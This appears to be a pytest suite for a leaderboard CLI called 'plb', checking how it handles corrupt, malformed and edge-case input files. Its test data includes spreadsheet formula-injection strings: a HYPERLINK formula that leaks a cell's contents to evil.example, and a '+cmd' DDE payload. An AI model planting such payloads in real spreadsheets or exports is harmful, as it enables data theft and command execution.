"""Bad input files for ``plb`` (issue 7): exit code 2, one line, nothing half-written.

The corpus of :data:`BAD` (empty, truncated, garbled files; content that does not match
its suffix; JSON of the wrong types; unknown winners; missing fields; very long strings;
NUL bytes and lone surrogates; deeply nested JSON) goes to ``plb leaderboard``,
``plb users``, ``plb fit`` and ``plb recommend --votes``. Each run must end with exit code
2 and exactly one line on stderr naming the file and, for a bad record, its row, the
field and the value; never a traceback, and exit code 1 (an internal error) never.
``plb fit --out DIR`` leaves an existing fit directory byte-for-byte as it was, and
creates no directory that was not there.

What docs/SPEC.md section 1 and the README make *valid*, and these tests pin down too: a
repeated ``battle_id`` is skipped and counted; a vote of a model against itself is
dropped and counted; NUL and control characters, right-to-left text, emoji, very long
names and spreadsheet formulas (``=HYPERLINK(...)``, ``+cmd``, ``@SUM(...)``) are model
names like any other and come back exactly. ``plb`` writes tables and JSON only, never
CSV, so no formula needs neutralising. A lone surrogate (``"\\ud800"`` in JSON) is not
Unicode text and is refused, naming the field; a raw NUL byte inside a JSON string is
not JSON.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import random
import shutil
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from service.cli import main

MODELS = ("pico-3b", "lyra-mini", "sage-1.2")
GOOD = [
    {
        "battle_id": f"b{i}",
        "user_id": f"u{i % 2}",
        "model_a": MODELS[i % 3],
        "model_b": MODELS[(i + 1) % 3],
        "winner": ("model_a", "model_b", "tie")[i % 3],
        "prompt": "How do I sort a list?",
    }
    for i in range(5)
]
SURROGATE = "\ud800"
NESTED = "[" * 100_000 + "]" * 100_000
LONG = "x" * 1_000_000
ODD_NAMES = [
    "nul\x00model",
    "bell\x07and\x1bescape",
    "\u05de\u05d5\u05d3\u05dc",  # right to left
    "\u202eevil-override",
    "\U0001f916 robo",
    '=HYPERLINK("http://evil.example/?"&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "m" * 100_000,
]


def _jsonl(records: list[Any]) -> bytes:
    return "".join(json.dumps(r) + "\n" for r in records).encode()


def _parquet(records: list[dict[str, Any]]) -> bytes:
    buffer = io.BytesIO()
    pd.DataFrame(records).to_parquet(buffer)
    return buffer.getvalue()


def _csv(text: str) -> bytes:
    return text.encode()


def _record(extra: str) -> bytes:
    """A valid JSON Lines record with ``extra`` (raw JSON text: ``"tstamp": NaN``) added."""
    return b'{"model_a": "a", "model_b": "c", "winner": "tie", ' + extra.encode() + b"}\n"


def _corpus() -> dict[str, bytes]:
    """File name to content: every case of :data:`BAD` and :data:`ACCEPTED`."""
    good = _jsonl(GOOD)
    numeric = _jsonl(  # labels of numbers, no prompt: columns Arrow types as numbers
        [{**{k: v for k, v in g.items() if k != "prompt"}, "topic": 1.5} for g in GOOD]
    )
    gz = gzip.compress(good, mtime=0)
    parquet = _parquet(GOOD)
    header = "model_a,model_b,winner\n"
    files = {
        "empty.jsonl": b"",
        "empty.json": b"",
        "empty.csv": b"",
        "empty.parquet": b"",
        "blank.jsonl": b"\n  \n\t\n",
        "empty.jsonl.gz": gzip.compress(b"", mtime=0),
        "truncated.jsonl.gz": gz[: len(gz) // 2],
        "truncated.parquet": parquet[: len(parquet) // 2],
        "truncated.jsonl": good[:-30],
        "truncated.json": json.dumps(GOOD).encode()[:-30],
        "garbled.jsonl": b"\xff\xfe\x00garbage\x80\x81\n",
        "garbled.csv": header.encode() + b"\xff\xfe,pico-3b,tie\n",
        "garbled.parquet": random.Random(0).randbytes(3000),
        "not-gzip.jsonl.gz": good,
        "csv-content.json": _csv(header + "pico-3b,lyra-mini,tie\n"),
        "json-content.csv": json.dumps(GOOD).encode(),
        "jsonl-content.parquet": good,
        "battles.txt": good,
        "object.json": json.dumps(GOOD[0]).encode(),
        "record-string.jsonl": good + b'"pico-3b beat lyra-mini"\n',
        "record-list.json": json.dumps([*GOOD, ["pico-3b", "lyra-mini"]]).encode(),
        "model-number.jsonl": _jsonl([*GOOD, {**GOOD[0], "model_a": 5}]),
        "model-object.jsonl": _jsonl([*GOOD, {**GOOD[0], "model_a": {"name": "x"}}]),
        "winner-number.jsonl": _jsonl([*GOOD, {**GOOD[0], "winner": 1}]),
        "user-object.jsonl": _jsonl([*GOOD, {**GOOD[0], "user_id": {"x": 1}}]),
        "user-bool.jsonl": _jsonl([*GOOD, {**GOOD[0], "user_id": True}]),
        "tstamp-text.jsonl": _jsonl([*GOOD, {**GOOD[0], "tstamp": "yesterday"}]),
        "unknown-winner.jsonl": _jsonl([*GOOD, {**GOOD[0], "winner": "model_c"}]),
        "unknown-winner.csv": _csv(header + "pico-3b,lyra-mini,tie\n" * 5 + "a,b,model_c\n"),
        "unknown-winner.parquet": _parquet([*GOOD, {**GOOD[0], "winner": "model_c"}]),
        "missing-field.jsonl": _jsonl([*GOOD, {"model_a": "pico-3b", "winner": "tie"}]),
        "missing-column.csv": _csv("model_a,winner\npico-3b,tie\n"),
        "empty-model.csv": _csv(header + ",lyra-mini,tie\n"),
        "long-winner.jsonl": _jsonl([*GOOD, {**GOOD[0], "winner": LONG}]),
        "long-line.jsonl": good + b'{"model_a": "' + LONG.encode() + b"\n",
        "newline-winner.jsonl": _jsonl([*GOOD, {**GOOD[0], "winner": "model_a\nmodel_b"}]),
        "raw-nul.jsonl": good + b'{"model_a": "a\x00b", "model_b": "c", "winner": "tie"}\n',
        "surrogate.jsonl": good + b'{"model_a": "\\ud800", "model_b": "c", "winner": "tie"}\n',
        "surrogate-name.jsonl": good + b'{"model_a": "a", "model_b": "c", "winner": "tie", '
        b'"\\udfff": 1}\n',
        "surrogate-mixed.jsonl": _jsonl([{**r, "topic": 5} for r in GOOD])
        + b'{"model_a": "a", "model_b": "c", "winner": "tie", "topic": "\\udc00"}\n',
        "nested.jsonl": good + NESTED.encode() + b"\n",
        # numbers no field can hold, and a prompt that is not text (issue 31)
        "tstamp-400-digits.jsonl": good + _record(f'"tstamp": {"9" * 400}'),
        "tstamp-400-digits.csv": _csv(header[:-1] + ",tstamp\n" + "a,b,tie,1\n" * 5)
        + f"a,b,tie,{'9' * 400}\n".encode(),
        "user-5000-digits.jsonl": good + _record(f'"user_id": {"7" * 5000}'),
        "user-5000-digits.json": b"["
        + _jsonl(GOOD).replace(b"\n", b",")
        + _record(f'"user_id": {"7" * 5000}').rstrip()
        + b"]",
        "tstamp-nan.jsonl": good + _record('"tstamp": NaN'),
        # issue 31: Arrow reads NaN and the infinities as numbers, and a 400-digit integer as
        # an infinity: in a column of numbers they were taken (the label -inf, the prompt "inf")
        "label-minus-infinity.jsonl": numeric + _record('"topic": -Infinity'),
        "label-nan.jsonl": numeric + _record('"topic": NaN'),
        "label-400-digits.jsonl": numeric + _record(f'"topic": {"1" * 400}'),
        "nested-label-infinity.jsonl": numeric + _record('"topic": 1, "tag": {"x": Infinity}'),
        "prompt-1e400.jsonl": numeric + _record('"prompt": 1e400'),
        "user-1e400.jsonl": numeric + _record('"user_id": -1e400'),
        "label-inf.csv": _csv(
            "model_a,model_b,winner,topic\n" + "a,b,tie,1.5\n" * 5 + "a,b,tie,-inf\n"
        ),
        "nested.json": NESTED.encode(),
        # valid
        "duplicates.jsonl": _jsonl([*GOOD, *GOOD[:2]]),
        "self.jsonl": _jsonl([*GOOD, {**GOOD[0], "model_b": GOOD[0]["model_a"]}]),
        "odd-names.jsonl": _jsonl(
            [
                {
                    "model_a": a,
                    "model_b": ODD_NAMES[(i + 1) % len(ODD_NAMES)],
                    "winner": "tie",
                    "user_id": ODD_NAMES[i % 3],
                }
                for i, a in enumerate(ODD_NAMES)
            ]
        ),
        "queries.txt": b"How do I sort a list?\n",
        "formula.csv": _csv(
            "model_a,model_b,winner,user_id\n"
            '"=HYPERLINK(""http://evil.example"",""x"")",+cmd,model_a,=1+1\n'
            "@SUM(1),-2+3,model_b,=1+1\n"
            "+cmd,@SUM(1),tie,@me\n"
        ),
    }
    return files


# (file, words its one line must hold beyond the file name), or a pytest.param of them
BAD: list[Any] = [
    ("empty.jsonl", ["file is empty"]),
    ("empty.json", ["file is empty"]),
    ("empty.csv", ["file is empty"]),
    ("empty.parquet", ["not a valid Parquet file"]),
    ("blank.jsonl", ["file is empty"]),
    ("empty.jsonl.gz", ["file is empty"]),
    ("truncated.jsonl.gz", ["corrupt or truncated gzip"]),
    ("truncated.parquet", ["not a valid Parquet file"]),
    ("truncated.jsonl", ["row 5", "malformed JSON"]),
    ("truncated.json", ["malformed JSON"]),
    ("garbled.jsonl", ["not UTF-8"]),
    ("garbled.csv", ["not UTF-8"]),
    ("garbled.parquet", ["not a valid Parquet file"]),
    ("not-gzip.jsonl.gz", ["corrupt or truncated gzip"]),
    ("csv-content.json", ["malformed JSON"]),
    ("json-content.csv", ["missing required column"]),
    ("jsonl-content.parquet", ["not a valid Parquet file"]),
    ("battles.txt", ["unknown file type"]),
    ("object.json", ["expected a JSON array", "not a dict"]),
    ("record-string.jsonl", ["row 6", "not a JSON object"]),
    ("record-list.json", ["row 6", "not a JSON object"]),
    ("model-number.jsonl", ["row 6", "field 'model_a'", "value 5 "]),
    ("model-object.jsonl", ["row 6", "field 'model_a'", "{'name': 'x'}"]),
    ("winner-number.jsonl", ["row 6", "field 'winner'", "value 1 "]),
    ("user-object.jsonl", ["row 6", "field 'user_id'", "{'x': 1}"]),
    ("user-bool.jsonl", ["row 6", "field 'user_id'", "value True "]),
    ("tstamp-text.jsonl", ["row 6", "field 'tstamp'", "'yesterday'"]),
    ("unknown-winner.jsonl", ["row 6", "field 'winner'", "'model_c'"]),
    ("unknown-winner.csv", ["row 6", "field 'winner'", "'model_c'"]),
    ("unknown-winner.parquet", ["row 6", "field 'winner'", "'model_c'"]),
    ("missing-field.jsonl", ["row 6", "field 'model_b'", "missing"]),
    ("missing-column.csv", ["missing required column 'model_b'"]),
    ("empty-model.csv", ["row 1", "field 'model_a'"]),
    ("long-winner.jsonl", ["row 6", "field 'winner'", "'xxxxxxxx", "..."]),
    ("long-line.jsonl", ["row 6", "malformed JSON"]),
    ("newline-winner.jsonl", ["row 6", "field 'winner'", "'model_a\\nmodel_b'"]),
    ("raw-nul.jsonl", ["row 6", "malformed JSON", "control character"]),
    ("surrogate.jsonl", ["row 6", "field 'model_a'", "'\\ud800'", "surrogate"]),
    ("surrogate-name.jsonl", ["row 6", "field name '\\udfff'", "surrogate"]),
    ("surrogate-mixed.jsonl", ["row 6", "field 'topic'", "'\\udc00'", "surrogate"]),
    pytest.param("nested.jsonl", ["row 6", "nested too deeply"]),
    ("tstamp-400-digits.jsonl", ["row 6", "field 'tstamp'", "999999999999...9999 (400 digits)"]),
    ("tstamp-400-digits.csv", ["row 6", "field 'tstamp'", "(400 digits)", "64-bit"]),
    ("user-5000-digits.jsonl", ["row 6", "field 'user_id'", "777...7777 (5000 digits)"]),
    ("user-5000-digits.json", ["row 6", "field 'user_id'", "(5000 digits)", "64-bit"]),
    ("tstamp-nan.jsonl", ["row 6", "field 'tstamp'", "value nan ", "not a finite number"]),
    ("label-minus-infinity.jsonl", ["row 6", "field 'topic'", "value -inf ", "not a finite"]),
    ("label-nan.jsonl", ["row 6", "field 'topic'", "value nan ", "not a finite number"]),
    ("label-400-digits.jsonl", ["row 6", "field 'topic'", "(400 digits)", "64-bit"]),
    ("nested-label-infinity.jsonl", ["row 6", "field 'tag.x'", "value inf ", "not a finite"]),
    ("prompt-1e400.jsonl", ["row 6", "field 'prompt'", "value inf ", "not a finite number"]),
    ("user-1e400.jsonl", ["row 6", "field 'user_id'", "value -inf ", "not a finite number"]),
    ("label-inf.csv", ["row 6", "field 'topic'", "value -inf ", "not a finite number"]),
    pytest.param("nested.json", ["nested too deeply"]),
]


def _ids(cases: list[Any]) -> list[str]:
    return [case.values[0] if hasattr(case, "values") else case[0] for case in cases]


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder holding every file of the corpus."""
    folder = tmp_path_factory.mktemp("bad-input")
    for name, content in _corpus().items():
        (folder / name).write_bytes(content)
    return folder


def one_error_line(capsys: pytest.CaptureFixture[str], command: str, path: Path) -> str:
    """The single stderr line of a failed run, checked for the command and the file."""
    captured = capsys.readouterr()
    lines = captured.err.splitlines()
    assert len(lines) == 1, captured.err[:2000]
    [line] = lines
    assert line.startswith(f"plb {command}: error: "), line[:2000]
    assert "Traceback" not in captured.err
    assert path.name in line, line[:2000]
    assert captured.out == ""
    return line


def check_words(line: str, words: list[str]) -> None:
    for word in words:
        assert word in line, f"{word!r} is not in {line[:2000]!r}"


@pytest.mark.parametrize("command", ["leaderboard", "users"])
@pytest.mark.parametrize(("name", "words"), BAD, ids=_ids(BAD))
def test_a_bad_log_exits_2_with_one_line(
    corpus: Path, command: str, name: str, words: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    path = corpus / name
    code = main([command, str(path), "--format", "json"])
    line = one_error_line(capsys, command, path)
    assert code == 2, line
    check_words(line, words)
    assert len(line) < 1000, "the line should quote a value, not the whole file"


def _hashes(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


@pytest.fixture
def old_fit(shared_fit: Path, tmp_path: Path) -> Path:
    """A copy of a real fit directory, for ``plb fit --out`` to (not) replace."""
    return Path(shutil.copytree(shared_fit, tmp_path / "fit"))


@pytest.mark.parametrize(("name", "words"), BAD, ids=_ids(BAD))
def test_fit_on_a_bad_log_leaves_the_fit_dir_as_it_was(
    corpus: Path, old_fit: Path, name: str, words: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    before = _hashes(old_fit)
    assert before
    fresh = old_fit.parent / "fresh"
    path = corpus / name
    codes = [
        main(["fit", str(path), "--out", str(out), "--no-features"]) for out in (old_fit, fresh)
    ]
    assert _hashes(old_fit) == before
    assert not fresh.exists()
    assert sorted(p.name for p in old_fit.parent.iterdir()) == ["fit"]  # no temporary left
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err
    assert codes == [2, 2], captured.err[-2000:]
    lines = captured.err.splitlines()
    assert len(lines) == 2 and lines[0] == lines[1], captured.err[:2000]
    assert lines[0].startswith("plb fit: error: ") and path.name in lines[0]
    check_words(lines[0], words)


def test_fit_on_nested_json_leaves_the_fit_dir_as_it_was(
    corpus: Path, old_fit: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    before = _hashes(old_fit)
    for name in ("nested.jsonl", "nested.json"):
        assert main(["fit", str(corpus / name), "--out", str(old_fit), "--no-features"]) != 0
        assert "Traceback" not in capsys.readouterr().err
    assert _hashes(old_fit) == before


VOTES = [
    case
    for case in BAD
    if _ids([case])[0]
    in {
        "empty.jsonl",
        "truncated.jsonl.gz",
        "garbled.csv",
        "model-number.jsonl",
        "unknown-winner.parquet",
        "surrogate.jsonl",
        "nested.jsonl",
    }
]


@pytest.mark.parametrize(("name", "words"), VOTES, ids=_ids(VOTES))
def test_recommend_with_bad_votes_exits_2_with_one_line(
    corpus: Path, shared_fit: Path, name: str, words: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    queries = corpus / "queries.txt"
    path = corpus / name
    code = main(["recommend", str(shared_fit), "--queries", str(queries), "--votes", str(path)])
    line = one_error_line(capsys, "recommend", path)
    assert code == 2, line
    check_words(line, words)


BAD_QUERIES = [
    # (file, content, words)
    ("empty.txt", b"", ["holds no queries"]),
    ("blank.txt", b"\n \n\t\n", ["holds no queries"]),
    ("garbled.txt", b"\xff\xfe\x00hello\n", ["not UTF-8", "byte 0"]),
    ("truncated.txt.gz", gzip.compress(b"hello\nworld\n" * 50, mtime=0)[:20], ["cannot read"]),
    ("not-gzip.txt.gz", b"hello\n", ["cannot read"]),
    ("prompt-missing.jsonl", b'{"query": "hi"}\n', ["line 1", "'prompt'", "not None"]),
    ("not-json.jsonl", b'{"prompt": "hi"\n', ["line 1", "not JSON"]),
    ("nested.jsonl", NESTED.encode() + b"\n", ["line 1", "nested too deeply"]),
    ("surrogate.jsonl", b'{"prompt": "hi \\ud800"}\n', ["line 1", "'prompt'", "surrogate"]),
]


@pytest.mark.parametrize(("name", "content", "words"), BAD_QUERIES, ids=[c[0] for c in BAD_QUERIES])
def test_recommend_with_bad_queries_exits_2_with_one_line(
    tmp_path: Path,
    shared_fit: Path,
    name: str,
    content: bytes,
    words: list[str],
    capsys: pytest.CaptureFixture[str],
) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    code = main(["recommend", str(shared_fit), "--queries", str(path)])
    line = one_error_line(capsys, "recommend", path)
    assert code == 2, line
    assert line.startswith("plb recommend: error: --queries: ")
    check_words(line, words)


def test_odd_queries_are_queries(tmp_path: Path, shared_fit: Path, capsys: Any) -> None:
    path = tmp_path / "odd.txt"
    path.write_text("".join(name + "\n" for name in ODD_NAMES[:-1]), encoding="utf-8")
    assert main(["recommend", str(shared_fit), "--queries", str(path), "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out)["n_queries"] == len(ODD_NAMES) - 1


# -- what is valid ---------------------------------------------------------------------------


def run_json(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[dict[str, Any], str]:
    code = main([*argv, "--format", "json"])
    captured = capsys.readouterr()
    assert code == 0, captured.err
    return json.loads(captured.out), captured.err


def test_duplicate_battle_ids_are_skipped_and_counted(corpus: Path, capsys: Any) -> None:
    document, err = run_json(capsys, "leaderboard", str(corpus / "duplicates.jsonl"))
    assert document["n_battles"] == len(GOOD)
    assert err.strip() == "plb: skipped 2 duplicate battle ids"


def test_a_model_against_itself_is_dropped_and_counted(corpus: Path, capsys: Any) -> None:
    document, err = run_json(capsys, "leaderboard", str(corpus / "self.jsonl"))
    assert document["n_battles"] == len(GOOD)
    assert err.strip() == "plb: ignored 1 votes of a model against itself"


FORMULAS = {'=HYPERLINK("http://evil.example","x")', "+cmd", "@SUM(1)", "-2+3"}


@pytest.mark.parametrize(
    ("name", "names"), [("odd-names.jsonl", set(ODD_NAMES)), ("formula.csv", FORMULAS)]
)
def test_odd_model_names_come_back_exactly(
    corpus: Path, name: str, names: set[str], capsys: Any
) -> None:
    path = corpus / name
    document, _ = run_json(capsys, "leaderboard", str(path))  # a few votes: provisional
    assert {m["model"] for m in document["models"] + document["provisional"]} == names
    document, _ = run_json(capsys, "leaderboard", str(path), "--min-votes", "0")
    assert {m["model"] for m in document["models"]} == names
    users, _ = run_json(capsys, "users", str(path), "--min-battles", "1")
    assert {m["model"] for m in users["aggregate"]["models"]} == names
    # the table prints the names as they are: plb writes no CSV, so nothing to neutralise
    assert main(["leaderboard", str(path)]) == 0
    table = capsys.readouterr().out
    for model in names:
        assert model[:40] in table


# -- options that cannot work fail before any file is read (issue 14) ---------------------

#: A battle log that does not exist: an option's error must come first, naming the option.
MISSING = "/nonexistent/battles.csv"

# (argv, words the one line must hold); "{tmp}" is a folder of the test's own
BAD_OPTIONS: list[tuple[list[str], list[str]]] = [
    (["leaderboard", MISSING, "--confidence", "1.5"], ["--confidence", "1.5"]),
    (["leaderboard", MISSING, "--confidence", "0"], ["--confidence", "0.0"]),
    (["leaderboard", MISSING, "--confidence", "nan"], ["--confidence", "nan"]),
    (["leaderboard", MISSING, "--method", "elo", "--ci", "sandwich"], ["--ci sandwich", "elo"]),
    (["leaderboard", MISSING, "--rounds", "0"], ["--rounds", "not 0"]),
    (["leaderboard", MISSING, "--rounds", "-5"], ["--rounds", "not -5"]),
    (["leaderboard", MISSING, "--seed", "-1"], ["--seed", "not -1"]),
    (["leaderboard", MISSING, "--anchor", "gpt-4o=nan"], ["--anchor", "'gpt-4o=nan'"]),
    (["leaderboard", MISSING, "--anchor", "gpt-4o"], ["--anchor", "'gpt-4o'", "MODEL=RATING"]),
    (["leaderboard", MISSING, "--where", "math"], ["--where", "'math'", "COLUMN=VALUE"]),
    (["leaderboard", MISSING, "--where", "user_id=u1"], ["--where", "'user_id=u1'", "cannot"]),
    (["users", MISSING, "--min-battles", "0"], ["--min-battles", "not 0"]),
    (["users", MISSING, "--show", "-1"], ["--show", "not -1"]),
    (["users", MISSING, "--seed", "-1"], ["--seed", "not -1"]),
    (["topics", MISSING, "--n-topics", "0"], ["--n-topics", "not 0"]),
    (["topics", MISSING, "--seed", "-2"], ["--seed", "not -2"]),
    (["topics", MISSING, "--out", "{tmp}/a-file"], ["--out", "a-file", "is a file"]),
    (["fit", MISSING, "--out", "{tmp}/f", "--min-battles", "0"], ["--min-battles", "not 0"]),
    (["fit", MISSING, "--out", "{tmp}/f", "--fraction", "1.5"], ["--fraction", "1.5"]),
    (["fit", MISSING, "--out", "{tmp}/f", "--n-topics", "0"], ["--n-topics", "not 0"]),
    (["fit", MISSING, "--out", "{tmp}/f", "--partitions", "0"], ["--partitions", "not 0"]),
    (["fit", MISSING, "--out", "{tmp}/f", "--partitions", "2"], ["--partitions", "--scheduler"]),
    (["fit", MISSING, "--out", "{tmp}/f", "--seed", "-1"], ["--seed", "not -1"]),
    (["fit", MISSING, "--out", "{tmp}/f", "--truth", "{tmp}/no.json"], ["--truth", "no.json"]),
    (["fit", MISSING, "--out", "{tmp}/a-file"], ["--out", "a-file", "is a file"]),
    (["fit", MISSING, "--out", "{tmp}/others"], ["--out", "others", "not an earlier fit"]),
    (["evaluate", MISSING, "--fraction", "0"], ["--fraction", "0.0"]),
    (["evaluate", MISSING, "--new-users", "1"], ["--new-users", "1.0"]),
    (["evaluate", MISSING, "--min-votes", "0"], ["--min-votes", "not 0"]),
    (["evaluate", MISSING, "--new-user-queries", "0"], ["--new-user-queries", "not 0"]),
    (["evaluate", MISSING, "--seed", "-1"], ["--seed", "not -1"]),
    (["evaluate", MISSING, "--truth", "{tmp}/no.json"], ["--truth", "no.json"]),
    (["evaluate", MISSING, "--test-users", "{tmp}/no.txt"], ["--test-users", "no.txt"]),
    (["simulate", "--out", "{tmp}/sim", "--seed", "-1"], ["--seed", "not -1"]),
    (["simulate", "--out", "{tmp}/a-file"], ["--out", "a-file", "is a file"]),
]


@pytest.mark.parametrize(("argv", "words"), BAD_OPTIONS, ids=[" ".join(a) for a, _ in BAD_OPTIONS])
def test_an_option_that_cannot_work_is_named_before_any_file_is_read(
    argv: list[str], words: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "a-file").write_text("not a directory\n")
    (tmp_path / "others").mkdir()
    (tmp_path / "others" / "notes.txt").write_text("keep me\n")
    argv = [a.replace("{tmp}", str(tmp_path)) for a in argv]
    assert main(argv) == 2
    captured = capsys.readouterr()
    lines = captured.err.splitlines()
    assert len(lines) == 1 and captured.out == "", captured.err
    assert lines[0].startswith(f"plb {argv[0]}: error: ")
    check_words(lines[0], words)
    assert "battles.csv" not in lines[0] and "not found" not in lines[0]
    # nothing was written, and nothing of the test's was replaced
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a-file", "others"]
    assert (tmp_path / "others" / "notes.txt").read_text() == "keep me\n"


# -- nothing left to rank says why, on one line (issue 14) --------------------------------


@pytest.mark.parametrize("command", ["leaderboard", "users", "fit", "evaluate", "topics"])
def test_a_log_whose_every_row_is_skipped_says_so(
    command: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text("model_a,model_b,winner\nx,y,maybe\nx,y,nah\nx,z,\n")
    argv = [command, str(bad), "--skip-invalid"] + (
        ["--out", str(tmp_path / "fit")] if command == "fit" else []
    )
    assert main(argv) == 2
    line = one_error_line(capsys, command, bad)
    check_words(
        line,
        [
            f"no valid battles in {bad}: all 3 rows were skipped",
            "2 x field 'winner': value is not one of",
            "1 x field 'winner': value is missing",
        ],
    )
    assert not (tmp_path / "fit").exists()


@pytest.mark.parametrize(
    ("content", "words"),
    [
        ("model_a,model_b,winner\n", ["no battles in", "holds no records"]),
        (
            "model_a,model_b,winner\nx,x,model_a\ny,y,tie\n",
            ["no battles left in", "of 2 rows read", "2 votes of a model against itself"],
        ),
        (
            "model_a,model_b,winner\nx,x,model_a\nx,y,maybe\n",
            ["of 2 rows read", "1 invalid rows skipped", "1 votes of a model", "1 x field"],
        ),
    ],
    ids=["header only", "only self-votes", "self-votes and invalid rows"],
)
def test_an_empty_result_names_what_was_read_and_dropped(
    content: str, words: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "log.csv"
    path.write_text(content)
    assert main(["leaderboard", str(path), "--skip-invalid"]) == 2
    check_words(one_error_line(capsys, "leaderboard", path), words)


def test_an_error_without_a_message_still_says_something(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def fails(*args: Any, **kwargs: Any) -> None:
        raise ValueError()

    monkeypatch.setattr("service.cli.leaderboard.read_input", fails)
    assert main(["leaderboard", MISSING]) == 2
    assert capsys.readouterr().err == "plb leaderboard: error: ValueError\n"


@pytest.mark.parametrize(
    "name",
    [
        "tstamp-400-digits.jsonl",
        "tstamp-400-digits.csv",
        "user-5000-digits.jsonl",
        "tstamp-nan.jsonl",
    ],
)
def test_a_number_no_field_can_hold_is_a_skippable_row_error(
    corpus: Path, name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """Issue 31: a 400-digit tstamp was 'internal error: OverflowError', exit 1, even with
    --skip-invalid; NaN was read as missing and a number as a prompt taken as text."""
    document, err = run_json(capsys, "leaderboard", str(corpus / name), "--skip-invalid")
    assert "skipped 1 invalid row" in err, err
    assert "internal error" not in err
    assert document["n_battles"] == 5
